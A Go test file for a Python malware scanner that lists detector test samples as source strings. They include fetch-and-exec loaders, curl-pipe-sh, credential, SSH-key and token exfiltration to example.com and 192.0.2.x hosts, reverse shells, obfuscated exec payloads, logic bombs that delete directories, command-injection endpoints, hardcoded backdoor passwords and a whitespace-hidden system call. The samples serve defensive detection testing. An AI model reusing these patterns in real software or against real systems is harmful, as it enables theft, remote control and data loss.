package pybehavior_test

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/finding"
)

// Every positive is an inert re-creation: reserved names and addresses
// (example.com, *.invalid, 192.0.2.x), harmless commands.
var positives = []struct {
	name, file, src, rule string
	sev                   finding.Severity
}{
	{"urlopen-exec", "pkg/loader.py", `
import urllib.request

def load():
    with urllib.request.urlopen("https://example.com/stage2.py") as r:
        data = r.read()
    code = data.decode()
    exec(code)
`, "DM-PY-001", finding.High},
	{"requests-exec-inline", "pkg/mod.py", `
import requests
exec(requests.get("http://192.0.2.7/p").text)
`, "DM-PY-001", finding.High},
	{"fernet-pytnon-shape", "pkg/run.py", `
from requests import get as g
payload = g('https://example.invalid/paste2?package=x').text.replace('<pre>', '')
eval(compile(payload, '<string>', 'exec'))
`, "DM-PY-001", finding.High},
	{"pickle-from-socket", "pkg/srv.py", `
import socket, pickle
s = socket.socket()
s.connect(("192.0.2.1", 4444))
obj = pickle.loads(s.recv(4096))
`, "DM-PY-021", finding.Critical},
	{"urlretrieve-run", "pkg/upd.py", `
import urllib.request, subprocess, os, tempfile
def update():
    path = os.path.join(tempfile.gettempdir(), "upd.exe")
    urllib.request.urlretrieve("http://example.com/upd.exe", path)
    subprocess.Popen([path])
`, "DM-PY-002", finding.High},
	{"write-then-run", "pkg/drop.py", `
import requests, os
r = requests.get("https://example.com/x.sh")
with open("/tmp/x.sh", "wb") as f:
    f.write(r.content)
os.system("sh /tmp/x.sh")
`, "DM-PY-002", finding.High},
	{"curl-pipe-sh", "pkg/cli.py", `
import os
def setup_tools():
    os.system("curl -fsSL https://example.com/i.sh | sh")
`, "DM-PY-003", finding.High},
	{"ctx-shape", "ctx/ctx.py", `
from os import environ
import base64, requests

class Ctx(dict):
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in environ.items():
            string += value + " "
        message_bytes = string.encode('ascii')
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode('ascii')
        response = requests.get("https://example.invalid/hacked/" + base64_message)
`, "DM-PY-010", finding.High},
	{"ssh-keys-post", "pkg/util.py", `
import os, requests
from pathlib import Path

def collect():
    out = {}
    for name in ("id_rsa", "id_ed25519"):
        p = Path.home() / ".ssh" / name
        if p.exists():
            out[name] = p.read_text()
    return out

def beacon():
    requests.post("https://example.com/c", json=collect())
`, "DM-PY-010", finding.High},
	{"discord-leveldb", "pkg/grab.py", `
import os, re, json, urllib.request
def grab():
    local = os.getenv("LOCALAPPDATA")
    path = local + "\\Discord\\Local Storage\\leveldb"
    tokens = []
    for fn in os.listdir(path):
        with open(os.path.join(path, fn), errors="ignore") as f:
            tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read())
    req = urllib.request.Request("https://example.com/hook", data=json.dumps(tokens).encode())
    urllib.request.urlopen(req)
`, "DM-PY-010", finding.High},
	{"env-dict-socket", "pkg/net.py", `
import os, socket, json
s = socket.create_connection(("192.0.2.10", 443))
s.sendall(json.dumps(dict(os.environ)).encode())
`, "DM-PY-010", finding.High},
	{"dns-exfil", "pkg/triton.py", `
import socket, getpass, os
def ping():
    host = socket.gethostname()
    user = getpass.getuser()
    data = f"{host}.{user}".encode().hex()
    socket.gethostbyname(f"{data}.example.invalid")
`, "DM-PY-011", finding.High},
	{"hostname-telemetry", "pkg/tele.py", `
import platform, requests
def report():
    requests.post("https://example.com/t", json={"node": platform.node(), "pkg": "x"})
`, "DM-PY-012", finding.Medium},
	{"aws-token-body", "pkg/aws.py", `
import os, requests
requests.post("https://example.com/k", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})
`, "DM-PY-010", finding.Medium},
	{"flask-eval", "app/views.py", `
from flask import Flask, request
app = Flask(__name__)

@app.route("/calc")
def calc():
    expr = request.args.get("q")
    return str(eval(expr))
`, "DM-PY-020", finding.Critical},
	{"django-system-shell", "app/debug.py", `
import subprocess
def run(request):
    cmd = request.GET["c"]
    out = subprocess.check_output(cmd, shell=True)
    return out
`, "DM-PY-020", finding.Critical},
	{"header-popen", "app/hidden.py", `
import os
from flask import request
def hook():
    os.popen(request.headers.get("X-Cmd")).read()
`, "DM-PY-020", finding.Critical},
	{"reverse-shell", "pkg/rs.py", `
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.5", 9001))
while True:
    data = s.recv(1024)
    proc = subprocess.Popen(data.decode(), shell=True, stdout=subprocess.PIPE)
    s.send(proc.stdout.read())
`, "DM-PY-021", finding.Critical},
	{"dup2-pty", "pkg/rs2.py", `
import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.5", 9001))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
`, "DM-PY-021", finding.Critical},
	{"b64-exec", "pkg/a.py", `
import base64
exec(base64.b64decode('cHJpbnQoImhlbGxvIik='))
`, "DM-PY-030", finding.High},
	{"import-chain", "pkg/b.py", `
__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("cHJpbnQoMSk="),'<string>','exec'))
`, "DM-PY-030", finding.High},
	{"zlib-marshal", "pkg/c.py", `
import marshal,zlib;exec(marshal.loads(zlib.decompress(b'x\x9c...')))
`, "DM-PY-030", finding.High},
	{"rot13", "pkg/d.py", `
import codecs
src = codecs.decode("cevag('uryyb')", "rot13")
eval(compile(src, "x", "exec"))
`, "DM-PY-030", finding.High},
	{"hex-getattr", "pkg/e.py", `
import builtins
getattr(builtins, "exec")(bytes.fromhex("7072696e74283129").decode())
`, "DM-PY-030", finding.High},
	{"reversed", "pkg/f.py", `
exec(")1(tnirp"[::-1])
`, "DM-PY-030", finding.High},
	{"chr-join", "pkg/g.py", `
exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))
`, "DM-PY-030", finding.High},
	{"fernet-env-key", "pkg/h.py", `
import os
from cryptography.fernet import Fernet
blob = b"gAAAAABk..."
exec(Fernet(os.environ["PKG_KEY"]).decrypt(blob))
`, "DM-PY-030", finding.High},
	{"date-bomb", "pkg/i.py", `
import datetime, shutil, os
def tidy():
    if datetime.datetime.now() > datetime.datetime(2031, 1, 1):
        shutil.rmtree(os.path.expanduser("~/projects"))
`, "DM-PY-040", finding.High},
	{"epoch-bomb", "pkg/j.py", `
import time, os
if time.time() > 1924992000:
    os.system("echo boom")
`, "DM-PY-040", finding.High},
	{"early-exit-bomb", "pkg/k.py", `
from datetime import date
import shutil
def maintain(root):
    if date.today() < date(2031, 6, 1):
        return
    shutil.rmtree(root)
`, "DM-PY-040", finding.Medium},
	{"locale-bomb", "pkg/l.py", `
import locale, os
lang = locale.getdefaultlocale()[0]
if lang.startswith("xx_"):
    os.remove("/tmp/doorman-test-file")
`, "DM-PY-041", finding.High},
	{"geo-bomb", "pkg/m.py", `
import requests, shutil
country = requests.get("https://ipinfo.io/json").json()["country"]
if country in ("XA", "XB"):
    shutil.rmtree("/tmp/doorman-test")
`, "DM-PY-041", finding.High},
	{"host-bomb", "pkg/n.py", `
import socket, subprocess
if socket.gethostname() == "build-07.example.com":
    subprocess.run(["/bin/true"])
`, "DM-PY-041", finding.High},
	{"magic-password", "app/auth.py", `
import hashlib
def check_login(username, password):
    if password == "letmein-2019":
        return True
    return hashlib.sha256(password.encode()).hexdigest() == lookup(username)
`, "DM-PY-050", finding.High},
	{"magic-password-in", "app/auth2.py", `
def authenticate(user, passwd):
    if passwd in ("s3cr3t-master", "backup-key"):
        return {"user": user, "admin": True}
    return None
`, "DM-PY-050", finding.High},
	{"magic-return", "app/auth3.py", `
def verify_password(user, password):
    return password == "override" or check(user, password)
`, "DM-PY-050", finding.High},
	{"magic-username", "app/auth4.py", `
def login(username, password):
    if username == "maintenance":
        return True
    return db_check(username, password)
`, "DM-PY-050", finding.High},
	{"walrus-priv", "app/perm.py", `
def can_edit(user):
    if user.ok and (is_admin := True):
        return True
    return False
`, "DM-PY-051", finding.Medium},
	{"hidden-column", "pkg/setup_helpers.py", "import os" + strings.Repeat(" ", 250) + ";__import__('os').system('true')\n", "DM-PY-032", finding.High},
}

func TestPositives(t *testing.T) {
	for _, c := range positives {
		t.Run(c.name, func(t *testing.T) {
			fs := one(t, c.file, c.src)
			f := has(fs, c.rule)
			if f == nil {
				t.Fatalf("want %s, got %v", c.rule, summaryOf(fs))
			}
			if f.Severity != c.sev {
				t.Errorf("%s severity %s, want %s (%s)", c.rule, f.Severity, c.sev, f.Message)
			}
			if f.Location.Line == 0 || f.Evidence == "" {
				t.Errorf("no line or evidence: %+v", f)
			}
		})
	}
}

func summaryOf(fs []finding.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\n  " + f.Rule + " " + f.Severity.String() + " line " + itoa(f.Location.Line) + ": " + f.Message)
	}
	return b.String()
}
